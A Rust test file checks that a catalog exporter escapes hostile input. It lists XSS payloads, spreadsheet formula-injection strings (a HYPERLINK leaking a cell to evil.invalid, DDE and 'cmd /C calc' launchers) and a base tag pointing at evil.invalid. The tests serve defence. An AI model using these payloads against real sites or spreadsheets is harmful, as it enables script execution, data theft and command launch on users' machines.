//! Injection through the data: XSS payloads in every field show as text in the exported HTML page (no tag or
//! attribute comes from data), and formula payloads are neutralised in CSV and XLSX exports without losing text.

use calamine::{Reader, Xlsx};
use catalog_core::model::{Catalog, Entry, Meta, NotApplicable, RemovedItem};
use catalog_interop::{ExportFormat, export, import};

const XSS: [&str; 20] = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\">",
    "javascript:alert(1)",
    "<a href=\"javascript:alert(1)\">点击查看</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "\"><script>alert(1)</script>",
    "' onmouseover='alert(1)",
    "\" onfocus=\"alert(1)\" autofocus=\"",
    "</td></tr></table><script>alert(1)</script>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<style>body{display:none}</style>",
    "<!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<body onload=alert(1)>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<base href=\"//evil.invalid/\"><link rel=stylesheet href=//evil.invalid/x.css>",
];

/// A catalog with `value(i, field)` in every text field the HTML page shows: meta, domain, item levels, every entry
/// column (channels, levels, group, withheld reason), 未涉及领域说明 and 删减事项说明. One domain per payload.
fn catalog_with(n: usize, value: impl Fn(usize) -> String) -> Catalog {
    let mut c = Catalog::new(Meta {
        title: value(0),
        government: value(1 % n),
        level: "乡级".into(),
        region: Some(value(2 % n)),
        compiled_on: Some(value(3 % n)),
        revision: Some(value(4 % n)),
    });
    for i in 0..n {
        let v = value(i);
        let specific = Entry {
            id: format!("e{i}a"),
            domain: v.clone(),
            item: vec![v.clone(), v.clone(), v.clone()],
            content: v.clone(),
            basis: v.clone(),
            time_limit: v.clone(),
            subject: v.clone(),
            channels: vec![v.clone(), "政府网站".into()],
            audience: "特定群体".into(),
            audience_group: Some(v.clone()),
            mode: "不予公开".into(),
            withheld_reason: Some(v.clone()),
            levels: vec!["乡级".into(), v.clone()],
            extra: [("备注".to_owned(), v.clone())].into(),
            ..Entry::default()
        };
        // The audience and mode columns also show unrecognised values as written.
        let raw = Entry { id: format!("e{i}b"), audience: v.clone(), mode: v.clone(), ..specific.clone() };
        c.entries.extend([specific, raw]);
        c.not_applicable.push(NotApplicable { domain: v.clone(), reason: v.clone() });
        c.removed.push(RemovedItem { domain: v.clone(), item: vec![v.clone(), v.clone()], reason: v });
    }
    c
}

fn html_of(c: &Catalog) -> String {
    String::from_utf8(export(c, ExportFormat::Html).expect("html export")).expect("utf-8")
}

/// Every markup construct of a page: `<…>` with quoted attribute values blanked, so two pages whose data differ
/// only in text compare equal. The exporter escapes `<` in data, so every `<` in the page opens real markup.
fn markup(html: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut rest = html;
    while let Some(open) = rest.find('<') {
        rest = &rest[open + 1..];
        let close = rest.find('>').expect("every tag closes");
        let mut tag = String::new();
        let mut quoted = false;
        for ch in rest[..close].chars() {
            if ch == '"' {
                quoted = !quoted;
                tag.push(ch);
            } else if !quoted {
                tag.push(ch);
            }
        }
        assert!(!quoted, "an attribute value left open: <{}>", &rest[..close]);
        out.push(tag);
        rest = &rest[close + 1..];
    }
    out
}

/// The page's text as a browser shows it (tags dropped, `<br>` as a line break, entities decoded).
fn visible_text(html: &str) -> String {
    let body = &html[html.find("<body>").expect("body")..];
    let mut text = String::new();
    let mut rest = body;
    while let Some(open) = rest.find('<') {
        text.push_str(&rest[..open]);
        let close = rest[open..].find('>').expect("tag closes") + open;
        if rest[open..=close].starts_with("<br") {
            text.push('\n');
        }
        text.push(' ');
        rest = &rest[close + 1..];
    }
    text.push_str(rest);
    text.replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", "\"").replace("&#39;", "'").replace("&amp;", "&")
}

#[test]
fn xss_payloads_in_every_field_are_text_in_the_html_page() {
    let hostile = catalog_with(XSS.len(), |i| XSS[i].to_owned());
    // The same catalog with harmless text of the same shape: the markup must not differ by one tag or attribute.
    let benign = catalog_with(XSS.len(), |i| format!("占位{i}"));
    let (page, plain) = (html_of(&hostile), html_of(&benign));
    assert_eq!(markup(&page), markup(&plain), "a tag or attribute came from the data");

    const ALLOWED: [&str; 20] = [
        "!DOCTYPE", "html", "head", "meta", "title", "style", "body", "h1", "h2", "p", "section", "table", "caption",
        "thead", "tbody", "tr", "th", "td", "br", "span",
    ];
    for tag in markup(&page) {
        let name = tag.trim_start_matches('/').split_whitespace().next().unwrap_or_default().to_owned();
        assert!(ALLOWED.contains(&name.as_str()), "unexpected element <{tag}>");
        let lower = tag.to_lowercase();
        assert!(!lower.contains(" on") && !lower.contains("javascript:") && !lower.contains("href"), "<{tag}>");
    }
    let text = visible_text(&page);
    for payload in XSS {
        assert!(text.contains(payload), "payload not shown as text: {payload}");
    }
    assert!(page.contains("default-src 'none'"), "and a CSP that would block scripts anyway");
}

const FORMULAS: [&str; 11] = [
    "=HYPERLINK(\"http://evil.invalid/?leak=\"&A1,\"点击查看\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-1+1",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "-2+3+cmd|' /C notepad'!'A1'",
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "'=already quoted by a person",
    "''@twice",
];

/// Text fields that every export keeps as written: a formula payload in each.
fn formula_catalog() -> Catalog {
    let mut c = Catalog::new(Meta {
        title: "公式注入".into(),
        government: "某镇".into(),
        level: "乡级".into(),
        ..Meta::default()
    });
    for (i, p) in FORMULAS.iter().enumerate() {
        c.entries.push(Entry {
            id: format!("f{i}"),
            domain: "社会救助".into(),
            item: vec![format!("事项{i}"), (*p).to_owned()],
            content: (*p).to_owned(),
            basis: (*p).to_owned(),
            time_limit: (*p).to_owned(),
            subject: (*p).to_owned(),
            channels: vec!["政府网站".into()],
            audience: "特定群体".into(),
            audience_group: Some((*p).to_owned()),
            mode: "主动".into(),
            levels: vec!["乡级".into()],
            extra: [("备注".to_owned(), (*p).to_owned())].into(),
            ..Entry::default()
        });
    }
    c
}

/// The text fields compared after a re-import.
fn texts(e: &Entry) -> Vec<String> {
    let mut v = e.item.clone();
    v.extend([e.content.clone(), e.basis.clone(), e.time_limit.clone(), e.subject.clone()]);
    v.push(e.audience_group.clone().unwrap_or_default());
    v.push(e.extra.get("备注").cloned().unwrap_or_default());
    v
}

#[test]
fn formulas_are_neutralised_in_csv_and_read_back_unchanged() {
    let catalog = formula_catalog();
    let bytes = export(&catalog, ExportFormat::Csv).expect("csv export");
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(&bytes[3..]);
    for record in reader.records() {
        for cell in record.expect("valid csv").iter() {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a spreadsheet would run {cell:?}");
        }
    }
    let back = import(&bytes, "公式注入.csv").expect("re-import");
    assert_eq!(back.catalog.entries.len(), catalog.entries.len());
    for (before, after) in catalog.entries.iter().zip(&back.catalog.entries) {
        assert_eq!(texts(after), texts(before), "CSV round trip of {}", before.id);
    }
}

#[test]
fn xlsx_never_holds_a_formula_and_reads_back_unchanged() {
    let catalog = formula_catalog();
    let bytes = export(&catalog, ExportFormat::Xlsx).expect("xlsx export");
    let mut book: Xlsx<_> = calamine::open_workbook_from_rs(std::io::Cursor::new(bytes.clone())).expect("workbook");
    for name in book.sheet_names() {
        let formulas = book.worksheet_formula(&name).expect("formula range");
        assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "sheet {name} holds a formula");
    }
    let back = import(&bytes, "公式注入.xlsx").expect("re-import");
    for (before, after) in catalog.entries.iter().zip(&back.catalog.entries) {
        // Import trims every cell (README): a leading tab or CR is the one thing an XLSX round trip drops.
        let expected: Vec<String> = texts(before).iter().map(|t| t.trim().to_owned()).collect();
        assert_eq!(texts(after), expected, "XLSX round trip of {}", before.id);
    }
}
